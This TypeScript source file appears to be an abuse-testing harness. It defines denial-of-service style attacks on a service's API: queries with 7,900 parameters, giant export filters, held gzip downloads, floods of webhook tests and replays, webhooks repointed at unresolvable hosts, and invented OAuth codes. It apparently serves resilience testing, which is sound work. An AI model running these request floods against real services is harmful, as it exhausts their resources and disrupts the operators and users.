// Attacks on the API: each repeats requests that were expensive for the service and free for the client.
import type { Attacker } from './attacker.ts';
import { pick } from './attacker.ts';

export type ApiTargets = {
  /** Path and query of a file to download. */
  download: string;
  /** Key and webhook of an account on the Enterprise plan. */
  enterprise: { key: string; webhookId: string };
  /** Key, saved search and collection of an account on the Free plan. */
  free: { key: string; searchId: string; collectionId: string };
  /** Another key of the account that the legitimate client uses. */
  colleagueKey: string;
};

/** Fits into the limit of headers. */
const manyParameters = 'a&'.repeat(7900);
/** A language tag that is well formed except for its length and fits into the limit of bodies. Each one differs. */
const bigFilter = (n: number) =>
  JSON.stringify({ format: 'jsonl', filters: { language: [`aa-a${n}${'-abcdefgh'.repeat(27_000)}`] } });

export function apiAttacks(
  { hold, repeat, head, withKey, post, form }: Attacker,
  { download, enterprise, free, colleagueKey }: ApiTargets,
) {
  let n = 0;
  const json = (value: object) => JSON.stringify(value);
  const { webhookId, key: enterpriseKey } = enterprise;
  const asEnterprise = withKey(enterpriseKey);
  const asFree = withKey(free.key);
  return {
    'queries of 7,900 parameters': () =>
      repeat(8, () => `${head(`GET ${download.split('?', 1)[0]}?${manyParameters}`)}\r\n`),
    'downloads with gzip': () =>
      hold(40, (socket) => {
        const request = `${head(`GET ${download}`, 'accept-encoding: gzip\r\nconnection: close\r\n')}\r\n`;
        socket.write(request);
      }),
    'exports with large filters': () => repeat(50, () => post('POST /export', withKey(), bigFilter(++n))),
    'refused exports at once': () => repeat(400, () => post('POST /export', withKey(), json({ format: 'jsonl' }))),
    'names that do not resolve': () =>
      repeat(30, () =>
        post(
          `PATCH /webhooks/${webhookId}`,
          asEnterprise,
          json({ webhook_url: `https://attack-${++n}.example.invalid/` }),
        ),
      ),
    'tests, replays and exports without end': () =>
      repeat(20, () =>
        pick([
          post(`POST /webhooks/${webhookId}/test`, asEnterprise, ''),
          post(`POST /webhooks/${webhookId}/replay`, asEnterprise, json({ since: '2026-01-01T00:00:00Z' })),
          post('POST /export', asEnterprise, json({ format: 'jsonl' })),
        ]),
      ),
    'refusals of a colleague': () => repeat(8, () => `${head('GET /hooks?limit=0', withKey(colleagueKey))}\r\n`),
    'feeds rotated without end': () => repeat(8, () => post(`POST /searches/${free.searchId}/rotate`, asFree, '')),
    'changes without end': () =>
      repeat(8, () => post(`PATCH /collections/${free.collectionId}`, asFree, json({ name: `Bench ${++n}` }))),
    'invented OAuth codes': () =>
      repeat(8, () =>
        form(
          'POST /oauth2/token',
          `grant_type=authorization_code&client_id=none&code_verifier=none&code=invented${++n}`,
        ),
      ),
  } satisfies Record<string, () => void>;
}
